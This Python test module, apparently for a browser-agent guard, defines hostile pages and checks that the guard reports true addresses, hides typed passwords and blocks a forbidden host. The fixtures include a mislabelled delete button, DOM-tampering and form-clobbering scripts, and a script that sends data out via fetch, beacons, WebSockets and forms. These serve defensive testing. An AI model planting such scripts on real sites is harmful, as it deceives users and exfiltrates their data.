"""Pages that lie about what they are, or reach for where the run may not go."""

from __future__ import annotations

from harmonyguard.steps import Action

from .page import HostilePage, Serve, html
from .server import Reply, Request
from .visit import Visit


def _naming_elsewhere(body: str) -> Serve:
    """A page that knows the forbidden host: it is told by the trial, in the address that it is opened with."""

    def serve(request: Request, page: str) -> Reply:
        found = f"<script>const away='http://'+decodeURIComponent(location.search.slice(1))+'/'</script>{body}"
        return html(found)(request, page)

    return serve


async def _open_naming(visit: Visit) -> None:
    await visit.open(f"?{visit.elsewhere.host}")


async def _opened(visit: Visit) -> None:
    await _open_naming(visit)
    await visit.look()


async def _clicked(visit: Visit) -> None:
    await _open_naming(visit)
    await visit.refused(visit.click("Go"))


async def _tells_where_it_leads(visit: Visit) -> None:
    await visit.open()
    button = await visit.element("Read more")
    visit.hold((button.url, button.method) == (visit.url("delete"), "post"), "nobody was told where the button leads")
    page = await visit.look()
    visit.hold(page.url == visit.url(), "the address is not the page's own")


async def _true_address(visit: Visit) -> None:
    await visit.open()
    link = await visit.element("Read")
    visit.hold(link.url == visit.url("real"), f"the page had the guard believe {link.url}")


async def _true_form(visit: Visit) -> None:
    await visit.open()
    button = await visit.element("Send")
    visit.hold(button.url == visit.url("real"), f"the page had the guard believe {button.url}")


async def _is_not_typed(visit: Visit) -> None:
    await visit.open()
    field = await visit.element("Password")
    await visit.do(Action(type="fill", ref=field.ref, value="Violet-Lantern-29"))
    page = await visit.look()
    visit.hold("Violet-Lantern-29" not in page.model_dump_json(), "a typed password is in the observation")


DISGUISES = (
    HostilePage(
        "lying-label",
        "calls itself a bank's help page, and a button that deletes “Read more”",
        "the true address and where the button leads are told",
        html(
            "<h1>Help</h1><form method=post action=delete><button>Read more</button></form>",
            head="<title>Bank - https://bank.example/help</title>",
        ),
        _tells_where_it_leads,
    ),
    HostilePage(
        "tampered-dom",
        "replaces the functions by which pages are read",
        "the true address is told",
        html(
            "<script>Element.prototype.getAttribute=()=>'/innocent';Document.prototype.querySelectorAll=()=>[];"
            "JSON.stringify=()=>'';globalThis.__harmonyguard={}</script><a href=real>Read</a>"
        ),
        _true_address,
    ),
    HostilePage(
        "clobbered-form",
        "names form fields after the properties by which forms are read",
        "the true address is told",
        html(
            "<form action=real method=post><input name=action value=innocent><input name=elements><input name=method>"
            "<input name=parentNode><input name=childNodes><button>Send</button></form>"
        ),
        _true_form,
    ),
    HostilePage(
        "echoed-password",
        "repeats a typed password in its text, title and address",
        "the password is not in the observation",
        html(
            '<input type=password aria-label=Password oninput="log.textContent=value;document.title=value;'
            "history.replaceState(0,'','?'+encodeURIComponent(value))\"><p id=log></p>"
        ),
        _is_not_typed,
    ),
    HostilePage(
        "foreign-frame",
        "holds a frame of a host that is not allowed",
        "nothing arrives there",
        _naming_elsewhere("<script>document.write('<iframe src='+away+'></iframe>')</script><p>Here</p>"),
        _opened,
    ),
    HostilePage(
        "foreign-redirect",
        "leads to a host that is not allowed by a script",
        "nothing arrives there",
        _naming_elsewhere("<button onclick='location=away'>Go</button>"),
        _clicked,
    ),
    HostilePage(
        "leaking",
        "sends what it holds to a host that is not allowed, by every way that there is",
        "nothing arrives there",
        _naming_elsewhere(
            "<p>Here</p><script>fetch(away,{method:'POST',body:'x',mode:'no-cors'}).catch(()=>0);"
            "navigator.sendBeacon(away,'x');new Image().src=away;new WebSocket(away.replace('http','ws'));"
            "new EventSource(away);const f=document.createElement('form');f.action=away;f.target='_blank';"
            "document.body.append(f);f.submit()</script>"
        ),
        _opened,
    ),
)
